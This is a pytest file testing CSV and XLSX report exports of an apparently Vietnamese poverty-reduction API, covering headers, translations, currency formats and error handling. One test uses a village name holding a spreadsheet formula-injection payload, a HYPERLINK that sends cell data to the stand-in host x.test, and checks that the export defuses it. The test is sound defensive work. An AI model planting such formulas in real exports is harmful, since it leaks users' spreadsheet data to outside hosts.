"""Report exports read back: CSV (BOM, formula-safe, translated headers) and XLSX (real number
and date cells, VND and percentage formats), in English and in Vietnamese."""

import csv
import io

from openpyxl import load_workbook

from geo.models import Village
from tests import factories as f

ND07 = "VN-ND07-2021"
RATES = "/api/v1/reports/poverty-rates/"


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def read_xlsx(response):
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return load_workbook(io.BytesIO(response.content)).active


def test_csv_of_a_report(api, known, ward, rural):
    r = api.get(RATES, {"as_of": "2026-07-01", "standard": ND07, "format": "csv"})
    rows = read_csv(r)
    assert 'attachment; filename="poverty-rates-' in r["Content-Disposition"]
    assert rows[0] == [
        "Commune code",
        "Commune",
        "Households",
        f"Poor households ({ND07})",
        f"Near-poor households ({ND07})",
        f"Poverty rate ({ND07})",
        f"Near-poverty rate ({ND07})",
    ]
    assert rows[1:] == [
        [ward.code, ward.name, "4", "1", "1", "0.25", "0.25"],
        [rural.code, rural.name, "2", "1", "0", "0.5", "0.0"],
        ["Total", "", "6", "2", "1", "0.3333", "0.1667"],
    ]


def test_xlsx_of_a_report_in_vietnamese(api, known, ward):
    r = api.get(
        RATES,
        {"as_of": "2026-07-01", "standard": ND07, "format": "xlsx"},
        HTTP_ACCEPT_LANGUAGE="vi",
    )
    ws = read_xlsx(r)
    header = [c.value for c in ws[1]]
    assert header == [
        "Mã xã",
        "Xã, phường, đặc khu",
        "Số hộ",
        f"Số hộ nghèo ({ND07})",
        f"Số hộ cận nghèo ({ND07})",
        f"Tỷ lệ hộ nghèo ({ND07})",
        f"Tỷ lệ hộ cận nghèo ({ND07})",
    ]
    code, name, households, poor, near, rate, _near_rate = ws[2]
    assert (code.value, name.value) == (ward.code, ward.name)
    assert (households.value, poor.value, near.value) == (4, 1, 1)
    assert isinstance(households.value, int) and households.number_format == "#,##0"
    assert rate.value == 0.25 and rate.number_format == "0.00%"
    total = [c.value for c in ws[4]]
    assert total == ["Tổng cộng", None, 6, 2, 1, 0.3333, 0.1667]


def test_json_in_vietnamese(api, known):
    body = api.get(RATES, {"standard": ND07}, HTTP_ACCEPT_LANGUAGE="vi").json()
    assert body["title"] == "Tỷ lệ hộ nghèo và hộ cận nghèo"
    assert body["definition"].startswith("Số hộ: các hộ có trong sổ hộ")
    assert body["columns"][2] == {"key": "households", "label": "Số hộ", "type": "integer"}
    profile = api.get(
        "/api/v1/reports/deprivation-profile/", {"standard": ND07}, HTTP_ACCEPT_LANGUAGE="vi"
    ).json()
    latrine = next(r for r in profile["rows"] if r["indicator"] == "latrine")
    assert latrine["indicator_name"] != "Hygienic latrine"  # the standard's Vietnamese name


def test_money_cells_of_the_uplift(api, paid):
    ws = read_xlsx(api.get("/api/v1/reports/uplift/", {"group_by": "none", "format": "xlsx"}))
    header = [c.value for c in ws[1]]
    row = dict(zip(header, ws[2], strict=True))
    assert row["Paid"].value == 86_000_000
    assert row["Paid"].number_format == '#,##0 "₫"'
    assert row["Paid ÷ central base"].value == 1.433
    assert ws.max_row == 2  # one row: the total is not repeated


def test_budget_execution_exports(api, paid):
    rows = read_csv(api.get("/api/v1/reports/budget-execution/", {"format": "csv"}))
    assert rows == [
        ["Key", "Name", "Allocated", "Committed", "Disbursed", "Available"],
        [
            "QN-GNBV",
            "Giảm nghèo bền vững 2021–2025",
            "1000000000",
            "112000000",
            "86000000",
            "888000000",
        ],
    ]
    ws = read_xlsx(
        api.get(
            "/api/v1/reports/coverage/",
            {"period": 2026, "format": "xlsx"},
            HTTP_ACCEPT_LANGUAGE="vi",
        )
    )
    assert [c.value for c in ws[1]][:4] == [
        "Mã xã",
        "Gói hỗ trợ",
        "Số hộ thuộc đối tượng",
        "Số hộ được hỗ trợ",
    ]
    assert ws.cell(row=2, column=5).number_format == "0.00%"


def test_cells_that_would_be_formulas_are_text(api, ward):
    village = Village.objects.create(commune=ward, name='=HYPERLINK("http://x.test/?"&A1)')
    f.household(ward, village=village)
    rows = read_csv(api.get(RATES, {"group_by": "village", "format": "csv"}))
    assert rows[1][3] == "'" + village.name
    ws = read_xlsx(api.get(RATES, {"group_by": "village", "format": "xlsx"}))
    assert ws.cell(row=2, column=4).value == "'" + village.name
    assert ws.cell(row=2, column=4).data_type == "s"


def test_an_unknown_format_is_a_400(api):
    r = api.get(RATES, {"format": "pdf"})
    assert r.status_code == 400
    assert r["Content-Type"] == "application/problem+json"


def test_each_request_has_its_own_language(api, known):
    vi = read_csv(api.get(RATES, {"standard": ND07, "format": "csv"}, HTTP_ACCEPT_LANGUAGE="vi"))
    assert vi[-1][0] == "Tổng cộng"
    rows = read_csv(api.get(RATES, {"standard": ND07, "format": "csv"}))
    assert rows[0][0] == "Commune code" and rows[-1][0] == "Total"


def test_refusals_and_the_description_are_json_whatever_the_format(api, known):
    response = api.get(RATES, {"format": "xlsx", "as_of": "yesterday"})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert {e["field"] for e in response.json()["errors"]} == {"as_of"}
    for refused in ({"format": "csv", "colour": "red"}, {"format": "csv", "commune": "0"}):
        response = api.get(RATES, refused)  # refused before the format is negotiated too
        assert response.status_code == 400, refused
        assert response["Content-Type"] == "application/problem+json"
    described = api.options(f"{RATES}?format=csv")
    assert described.status_code == 200 and described.json()["renders"][1] == "text/csv"
